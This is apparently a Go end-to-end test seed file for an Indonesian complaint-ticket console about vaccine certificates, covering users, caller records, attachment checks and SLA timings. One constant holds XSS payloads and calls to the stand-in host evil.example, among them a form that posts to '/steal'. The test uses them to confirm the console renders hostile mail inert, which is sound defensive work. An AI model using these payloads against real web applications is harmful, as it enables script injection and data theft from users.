package web_test

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/aduan/aduan/pkg/app"
	"github.com/aduan/aduan/pkg/intake"
	"github.com/aduan/aduan/pkg/ticket"
)

// fixture is what the specs are told about the seeded data.
type fixture struct {
	Base       string `json:"base"`
	Control    string `json:"control"`
	Artifacts  string `json:"artifacts"`
	Password   string `json:"password"`
	Agent1     string `json:"agent1"`
	Agent1Name string `json:"agent1_name"`
	Agent2     string `json:"agent2"`
	Agent2Name string `json:"agent2_name"`
	Queue      string `json:"queue"`
	// Supervisor and Admin log in with Password too.
	Supervisor string `json:"supervisor"`
	Admin      string `json:"admin"`
	// Caller is a returning caller: known by NIK and phone, with an email
	// and a WhatsApp ticket already.
	CallerNIK   string   `json:"caller_nik"`
	CallerPhone string   `json:"caller_phone"`
	CallerName  string   `json:"caller_name"`
	CallerOld   []string `json:"caller_old"`
	// Shared is an email ticket left in the queue for two agents to open.
	Shared string `json:"shared"`
	// Hostile is an email ticket whose HTML tries to run script.
	Hostile string `json:"hostile"`
	// Oversight is the supervisor's and admin's part (e2e_oversight_seed_test.go).
	Oversight oversightFixture `json:"oversight"`
}

const e2ePassword = "kata-sandi-uji-123"

// hostileHTML tries every way a mail could run script or call home; the
// console must show it inert.
const hostileHTML = `<p>Sertifikat saya belum muncul.</p>
<script>alert('xss-script')</script>
<img src="x" onerror="alert('xss-onerror')">
<img src="https://evil.example/track.png">
<a href="javascript:alert('xss-link')">klik di sini</a>
<a href="https://evil.example/">situs lain</a>
<form action="https://evil.example/steal"><input name="q"><button>Kirim</button></form>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="alert('xss-svg')"><circle r="5"/></svg>`

func seed(t *testing.T, ctx context.Context, a *app.App) fixture {
	t.Helper()
	queues := a.Rules.Routing.Queues()
	fx := fixture{Password: e2ePassword, Agent1: "agen1@aduan.test", Agent1Name: "Budi Santoso",
		Agent2: "agen2@aduan.test", Agent2Name: "Dewi Lestari", Queue: queues[0],
		CallerNIK: "3201014507850001", CallerPhone: "081234567890", CallerName: "Siti Aminah",
		Supervisor: "supervisor@aduan.test", Admin: "admin@aduan.test"}
	for _, u := range []app.NewUser{
		{Email: fx.Agent1, Name: fx.Agent1Name, Role: ticket.RoleAgent},
		{Email: fx.Agent2, Name: fx.Agent2Name, Role: ticket.RoleAgent},
		{Email: fx.Supervisor, Name: "Sri Rahayu", Role: ticket.RoleSupervisor},
		{Email: fx.Admin, Name: "Andi Admin", Role: ticket.RoleAdmin},
	} {
		u.Password, u.Capacity = e2ePassword, ticket.DefaultCapacity
		if _, err := a.AddUser(ctx, u); err != nil {
			t.Fatalf("add user %s: %v", u.Email, err)
		}
	}
	caller := ticket.Complainant{Name: fx.CallerName, NIK: fx.CallerNIK, Phone: "+6281234567890", Email: "siti.aminah@contoh.id"}
	mail := ingest(t, ctx, a, intake.Inbound{Channel: ticket.ChannelEmail, SourceID: "<lama-1@contoh.id>",
		Complainant: caller, Category: ticket.CategoryCertificateMissing, Subject: "Sertifikat belum muncul",
		Body: "Sertifikat dosis 2 belum muncul.", Sender: caller.Email}, "", "")
	wa := ingest(t, ctx, a, intake.Inbound{Channel: ticket.ChannelWhatsApp, SourceID: "wamid.lama-2",
		Complainant: ticket.Complainant{Phone: caller.Phone, WhatsAppID: "6281234567890"},
		Category:    ticket.CategoryPersonalDataChange, Body: "Mau ganti nomor HP"}, "", "")
	fx.CallerOld = []string{mail.Number, wa.Number}
	// An answer on WhatsApp that Meta refused, as the channel records it.
	failed := ticket.Message{TicketID: wa.ID, Direction: ticket.Outbound, Channel: ticket.ChannelWhatsApp,
		Kind: ticket.KindReply, Status: ticket.DeliveryFailed, Recipient: "6281234567890",
		Body: "Silakan kirim foto KTP Anda.", Error: "131047: lebih dari 24 jam sejak pesan terakhir pelanggan"}
	if err := a.Store.AddMessage(ctx, &failed); err != nil {
		t.Fatal(err)
	}

	// The ticket the first claim takes: urgent, with its three photos.
	photo := readFile(t, "../pkg/documents/testdata/face-astronaut.png")
	sum, size, err := a.Blobs.Put(bytes.NewReader(photo))
	if err != nil {
		t.Fatal(err)
	}
	att := func(kind ticket.AttachmentKind) ticket.Attachment {
		return ticket.Attachment{Filename: string(kind) + "-3174052303900002.png", ContentType: "image/png",
			Size: size, SHA256: sum, Stored: true, Kind: kind, Check: ticket.Check{Verdict: ticket.VerdictPending}}
	}
	photos := ingest(t, ctx, a, intake.Inbound{Channel: ticket.ChannelEmail, SourceID: "<foto-3@contoh.id>",
		Complainant: ticket.Complainant{Name: "Agus Wijaya", NIK: "3174052303900002", Email: "agus.wijaya@contoh.id"},
		Category:    ticket.CategoryCertificateDataError, Subject: "Tanggal vaksin salah",
		Body: "Tanggal dosis 1 di sertifikat salah, seharusnya 12/08/2021.", Sender: "agus.wijaya@contoh.id",
		Attachments: []ticket.Attachment{att(ticket.KindKTP), att(ticket.KindSelfie), att(ticket.KindVaccineCard)}},
		fx.Queue, ticket.PriorityUrgent)
	checked(t, ctx, a, photos.ID)
	shared := ingest(t, ctx, a, intake.Inbound{Channel: ticket.ChannelEmail, SourceID: "<bersama-4@contoh.id>",
		Complainant: ticket.Complainant{Name: "Rudi Hartono", NIK: "3273011201880003", Email: "rudi.hartono@contoh.id"},
		Category:    ticket.CategoryCertificateMissing, Subject: "Sertifikat tidak ada",
		Body: "Sudah 3 minggu sertifikat belum muncul.", Sender: "rudi.hartono@contoh.id"}, fx.Queue, ticket.PriorityLow)
	fx.Shared = shared.Number
	hostile := ingest(t, ctx, a, intake.Inbound{Channel: ticket.ChannelEmail, SourceID: "<jahat-5@contoh.id>",
		Complainant: ticket.Complainant{Name: "Pengirim Aneh", Email: "aneh@contoh.id"},
		Category:    ticket.CategoryOther, Subject: "Tolong dibaca", Body: "Sertifikat saya belum muncul.",
		HTML: hostileHTML, Sender: "aneh@contoh.id"}, fx.Queue, ticket.PriorityLow)
	fx.Hostile = hostile.Number
	fx.Oversight = seedOversight(t, ctx, a, fx)
	return fx
}

// checked records the photos' checks as the documents worker would: the
// verdicts given on the attachments when they were seeded.
func checked(t *testing.T, ctx context.Context, a *app.App, ticketID int64) {
	t.Helper()
	want := map[ticket.AttachmentKind]ticket.Check{
		ticket.KindKTP:         {Verdict: ticket.VerdictOK},
		ticket.KindSelfie:      {Verdict: ticket.VerdictMismatch, Reasons: []string{"wajah pada swafoto tidak cocok dengan foto KTP"}},
		ticket.KindVaccineCard: {Verdict: ticket.VerdictUnreadable, Reasons: []string{"kartu terlalu buram untuk dibaca"}},
	}
	atts, err := a.Store.Attachments(ctx, ticketID)
	if err != nil {
		t.Fatal(err)
	}
	for _, at := range atts {
		if _, err := a.Store.SaveCheck(ctx, at.ID, at.Kind, want[at.Kind], ""); err != nil {
			t.Fatal(err)
		}
	}
	docs := ticket.Documents{KTP: ticket.DocOK, Selfie: ticket.DocMismatch, VaccineCard: ticket.DocUnreadable}
	if err := a.Store.SaveDocuments(ctx, ticketID, docs); err != nil {
		t.Fatal(err)
	}
}

// ingest stores in as its channel would, then puts the ticket in queue at
// priority with a first response due, as routing and the SLA planner would
// (none when queue is ""). The due times differ by priority, so the queue
// shows a breached, a warned and a kept SLA.
func ingest(t *testing.T, ctx context.Context, a *app.App, in intake.Inbound, queue string, priority ticket.Priority) ticket.Ticket {
	t.Helper()
	res, err := a.Ingester.Ingest(ctx, in)
	if err != nil {
		t.Fatalf("ingest %s: %v", in.SourceID, err)
	}
	tk := res.Ticket
	if queue != "" {
		tk.Queue, tk.Priority = queue, priority
		due := time.Now().Add(map[ticket.Priority]time.Duration{ticket.PriorityUrgent: -20 * time.Minute,
			ticket.PriorityLow: 40 * time.Minute}[priority])
		if in.HTML != "" {
			due = time.Now().Add(5 * time.Hour)
		}
		tk.SLA.FirstResponseDue = &due
		if err := a.Store.SaveTicket(ctx, &tk); err != nil {
			t.Fatal(err)
		}
	}
	return tk
}

func readFile(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.FromSlash(name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// startControl serves what the specs cannot do through the console:
// routing a ticket into a queue (the worker's job, not running here).
// POST /route?number=PL-… puts the ticket in the fixture's first queue.
func startControl(t *testing.T, a *app.App) string {
	t.Helper()
	queue := a.Rules.Routing.Queues()[0]
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost || r.URL.Path != "/route" {
			http.NotFound(w, r)
			return
		}
		tk, err := a.Store.TicketByRef(r.Context(), r.URL.Query().Get("number"), false)
		if err == nil {
			tk.Queue = queue
			err = a.Store.SaveTicket(r.Context(), &tk)
		}
		if err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
		fmt.Fprintln(w, "ok")
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}
